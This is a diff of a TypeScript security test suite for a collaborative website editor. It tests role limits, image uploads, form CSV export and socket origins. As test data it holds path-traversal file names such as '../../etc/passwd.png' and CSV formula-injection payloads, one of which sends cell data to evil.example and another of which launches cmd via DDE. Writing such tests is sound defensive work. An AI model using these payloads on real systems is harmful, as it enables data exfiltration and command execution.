@@ -10,10 +10,10 @@ import type { DatabaseHandle } from '../db/client';
 import { formSubmissions } from '../db/schema/forms';
 import { createApiKey } from '../modules/api-keys/service';
 import { createSpaceFor, listenTestApp, postJson } from '../modules/generation/test-helpers';
-import { connectEditor, type TestEditor } from '../test/realtime-client';
 import { withoutScripts } from '../modules/spaces/thumbnail';
 import { createTestApp, createTestUser, injectAs } from '../test/app';
 import { openTestDatabase, testDrivers } from '../test/db';
+import { connectEditor, type TestEditor } from '../test/realtime-client';
 
 type User = Awaited<ReturnType<typeof createTestUser>>;
 
@@ -140,24 +140,51 @@ describe.each(testDrivers)('attacks on the replacement save, thumbnails and role
     const text = 'a😀b';
     const space = await sharedSpace(text);
     // Code point 1 is the whole emoji: replacing it leaves no half surrogate.
-    const res = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, patchBody(space.revision, { at: 1, remove: 1, insert: '🎉', length: 3 }));
+    const res = await call(
+      editor,
+      'PUT',
+      `/api/spaces/${space.id}/files`,
+      patchBody(space.revision, { at: 1, remove: 1, insert: '🎉', length: 3 }),
+    );
     expect(res.statusCode, res.body).toBe(200);
     expect(await indexOf(space.id)).toEqual({ content: 'a🎉b', revision: res.json().revision });
+    // Half a surrogate pair sent on purpose: stored as valid text or refused, never a 500 nor a broken file.
+    const half = await call(
+      editor,
+      'PUT',
+      `/api/spaces/${space.id}/files`,
+      patchBody(res.json().revision, { at: 3, remove: 0, insert: '\ud83d', length: 3 }),
+    );
+    expect([200, 400], half.body).toContain(half.statusCode);
+    const after = await indexOf(space.id);
+    // Well formed: a round trip through UTF-8 changes nothing.
+    expect(Buffer.from(after.content ?? '', 'utf8').toString('utf8')).toBe(after.content);
+    if (half.statusCode === 200) expect([...(after.content ?? '')]).toHaveLength(4);
     // A NUL byte cannot be stored in a text column: refused before the database, in the patch and in a file.
-    const nul = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, patchBody(res.json().revision, { at: 0, remove: 0, insert: 'x\u0000y', length: 3 }));
+    const nul = await call(
+      editor,
+      'PUT',
+      `/api/spaces/${space.id}/files`,
+      patchBody(after.revision, { at: 0, remove: 0, insert: 'x\u0000y', length: 3 }),
+    );
     expect(nul.statusCode, nul.body).toBe(400);
     const nulFile = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, {
-      revision: res.json().revision,
+      revision: after.revision,
       files: [{ path: 'otro.html', content: 'x\u0000y' }],
     });
     expect(nulFile.statusCode, nulFile.body).toBe(400);
-    expect(await indexOf(space.id)).toEqual({ content: 'a🎉b', revision: res.json().revision });
+    expect(await indexOf(space.id)).toEqual(after);
   });
 
   it('a replacement may not grow a file past the file limit', async () => {
     const space = await sharedSpace('x');
     const big = 'y'.repeat(3 * 1024 * 1024);
-    const res = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, patchBody(space.revision, { at: 0, remove: 0, insert: big, length: 1 }));
+    const res = await call(
+      editor,
+      'PUT',
+      `/api/spaces/${space.id}/files`,
+      patchBody(space.revision, { at: 0, remove: 0, insert: big, length: 1 }),
+    );
     expect([400, 413]).toContain(res.statusCode);
     expect(await indexOf(space.id)).toEqual({ content: 'x', revision: space.revision });
   });
@@ -209,13 +236,21 @@ describe.each(testDrivers)('attacks on the replacement save, thumbnails and role
 
   it('a viewer cannot raise their own role, invite, or remove others', async () => {
     const space = await sharedSpace('<h1>Hola</h1>');
-    expect((await call(viewer, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(403);
-    expect((await call(viewer, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'x@example.test', role: 'editor' })).statusCode).toBe(403);
+    expect((await call(viewer, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(
+      403,
+    );
+    expect(
+      (await call(viewer, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'x@example.test', role: 'editor' })).statusCode,
+    ).toBe(403);
     expect((await call(viewer, 'DELETE', `/api/spaces/${space.id}/members/${editor.id}`)).statusCode).toBe(403);
     expect((await call(editor, 'PATCH', `/api/spaces/${space.id}/members/${editor.id}`, { role: 'owner' })).statusCode).toBe(400);
-    expect((await call(editor, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(403);
+    expect((await call(editor, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(
+      403,
+    );
     // An owner cannot be made a member of their own space, nor invite with role "owner".
-    expect((await call(owner, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'y@example.test', role: 'owner' })).statusCode).toBe(400);
+    expect(
+      (await call(owner, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'y@example.test', role: 'owner' })).statusCode,
+    ).toBe(400);
   });
 });
 
@@ -266,9 +301,14 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
     stranger = await createTestUser(database, { plan: 'pro' });
     spaceId = (await injectAs(app, owner, 'POST', '/api/spaces', { name: 'Fotos' })).json().space.id;
     otherSpaceId = (await injectAs(app, stranger, 'POST', '/api/spaces', { name: 'Otras' })).json().space.id;
-    const invited = await injectAs(app, owner, 'POST', `/api/spaces/${spaceId}/invitations`, { email: viewer.email, role: 'viewer' });
+    const invited = await injectAs(app, owner, 'POST', `/api/spaces/${spaceId}/invitations`, {
+      email: viewer.email,
+      role: 'viewer',
+    });
     const link = invited.json().link as string;
-    expect((await injectAs(app, viewer, 'POST', `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`)).statusCode).toBe(200);
+    expect(
+      (await injectAs(app, viewer, 'POST', `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`)).statusCode,
+    ).toBe(200);
   });
   afterAll(async () => {
     await app.close();
@@ -277,7 +317,10 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
 
   const upload = (user: User | null, space: string, name: string, body: Buffer | string, type = 'application/octet-stream') =>
     injectAs(app, user, 'POST', `/api/spaces/${space}/images?name=${encodeURIComponent(name)}`, body, { 'content-type': type });
-  const square = () => sharp({ create: { width: 64, height: 64, channels: 3, background: '#1e40af' } }).png().toBuffer();
+  const square = () =>
+    sharp({ create: { width: 64, height: 64, channels: 3, background: '#1e40af' } })
+      .png()
+      .toBuffer();
 
   it('a gzip-compressed SVG (svgz) is checked like a plain one: a script or a file reference inside is refused', async () => {
     const inner = [
@@ -290,7 +333,11 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
       expect(res.json().message).toBe(IMAGE_MESSAGES.svgUnsafe);
     }
     // A clean one compressed is still an image.
-    const clean = gzipSync(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#0a0"/></svg>'));
+    const clean = gzipSync(
+      Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#0a0"/></svg>',
+      ),
+    );
     const ok = await upload(owner, spaceId, 'limpio.svgz', clean);
     expect(ok.statusCode, ok.body).toBe(201);
   });
@@ -312,7 +359,15 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
 
   it('image names cannot traverse paths: ../, %2e%2e, backslashes, NUL and look-alikes become plain names', async () => {
     const body = await square();
-    const names = ['../../etc/passwd.png', '..%2f..%2fsecreto.png', '..\\..\\win.png', 'a\u0000b.png', 'ａ／．．／b.png', '/abs.png', '.png'];
+    const names = [
+      '../../etc/passwd.png',
+      '..%2f..%2fsecreto.png',
+      '..\\..\\win.png',
+      'a\u0000b.png',
+      'ａ／．．／b.png',
+      '/abs.png',
+      '.png',
+    ];
     for (const name of names) {
       const res = await upload(owner, spaceId, name, body);
       expect([201, 400], `${name} → ${res.body}`).toContain(res.statusCode);
@@ -329,8 +384,16 @@ describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)
     expect((await injectAs(app, stranger, 'DELETE', own)).statusCode).toBe(404);
     expect((await injectAs(app, stranger, 'GET', `/api/spaces/${spaceId}/images`)).statusCode).toBe(404);
     expect((await injectAs(app, viewer, 'DELETE', `/api/spaces/${spaceId}/images/${image.id}`)).statusCode).toBe(403);
-    expect((await injectAs(app, viewer, 'PATCH', `/api/spaces/${spaceId}/images/${image.id}`, { alt: 'x' })).statusCode).toBe(403);
-    expect((await injectAs(app, viewer, 'POST', `/api/spaces/${spaceId}/images?name=v.png`, await square(), { 'content-type': 'image/png' })).statusCode).toBe(403);
+    expect((await injectAs(app, viewer, 'PATCH', `/api/spaces/${spaceId}/images/${image.id}`, { alt: 'x' })).statusCode).toBe(
+      403,
+    );
+    expect(
+      (
+        await injectAs(app, viewer, 'POST', `/api/spaces/${spaceId}/images?name=v.png`, await square(), {
+          'content-type': 'image/png',
+        })
+      ).statusCode,
+    ).toBe(403);
     // Still there for the owner.
     const listed = (await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/images`)).json().images as { id: string }[];
     expect(listed.map((i) => i.id)).toContain(image.id);
@@ -389,12 +452,15 @@ describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 subm
 
   /** What a visitor's form post stores (the public form endpoint keeps the fields as sent). */
   const received = (space: string, fields: { name: string; value: string }[]) =>
-    database.db.insert(formSubmissions).values({ spaceId: space, formName: 'contacto', page: '/', fields }).returning({ id: formSubmissions.id });
+    database.db
+      .insert(formSubmissions)
+      .values({ spaceId: space, formName: 'contacto', page: '/', fields })
+      .returning({ id: formSubmissions.id });
 
   it('no cell of the CSV export starts a formula, whether the sheet splits on commas, semicolons, tabs or lines', async () => {
     const payloads = [
       '=HYPERLINK("https://evil.example/?d="&A1,"Pulsa aquí")',
-      '+1+cmd|\' /C calc\'!A0',
+      "+1+cmd|' /C calc'!A0",
       '-2+3',
       '@SUM(1,2)',
       '\t=1+1',
@@ -439,7 +505,8 @@ describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 subm
 
   it("an editor's API key loses the space's submissions the moment the editor is removed", async () => {
     const { key } = await createApiKey({ db: database.db, userId: editor.id, name: 'integración' });
-    const viaKey = (url: string) => app.inject({ method: 'GET', url, headers: { host: 'app.test', authorization: `Bearer ${key}` } });
+    const viaKey = (url: string) =>
+      app.inject({ method: 'GET', url, headers: { host: 'app.test', authorization: `Bearer ${key}` } });
     expect((await viaKey(`/v1/spaces/${spaceId}/submissions`)).statusCode).toBe(200);
     expect((await viaKey(`/v1/spaces/${otherSpaceId}/submissions`)).statusCode).toBe(404);
     expect((await injectAs(app, owner, 'DELETE', `/api/spaces/${spaceId}/members/${editor.id}`)).statusCode).toBe(204);
@@ -482,9 +549,17 @@ describe.each(testDrivers)('attacks on the realtime socket on %s (issue 19)', (d
   });
 
   async function share(spaceId: string, member: User, role: 'editor' | 'viewer') {
-    const invited = await postJson(server.url, `/api/spaces/${spaceId}/invitations`, owner.authorization, { email: member.email, role });
+    const invited = await postJson(server.url, `/api/spaces/${spaceId}/invitations`, owner.authorization, {
+      email: member.email,
+      role,
+    });
     const link = invited.json.link as string;
-    const accepted = await postJson(server.url, `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`, member.authorization, {});
+    const accepted = await postJson(
+      server.url,
+      `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`,
+      member.authorization,
+      {},
+    );
     expect(accepted.status).toBe(200);
   }
 
@@ -537,7 +612,10 @@ describe.each(testDrivers)('attacks on the realtime socket on %s (issue 19)', (d
       const client = connect(owner, spaceId, origin);
       const closed = await client.closed;
       expect(closed.code, origin).not.toBe(1000);
-      expect(client.events.some((event) => event.type === 'welcome'), origin).toBe(false);
+      expect(
+        client.events.some((event) => event.type === 'welcome'),
+        origin,
+      ).toBe(false);
     }
   });
 });
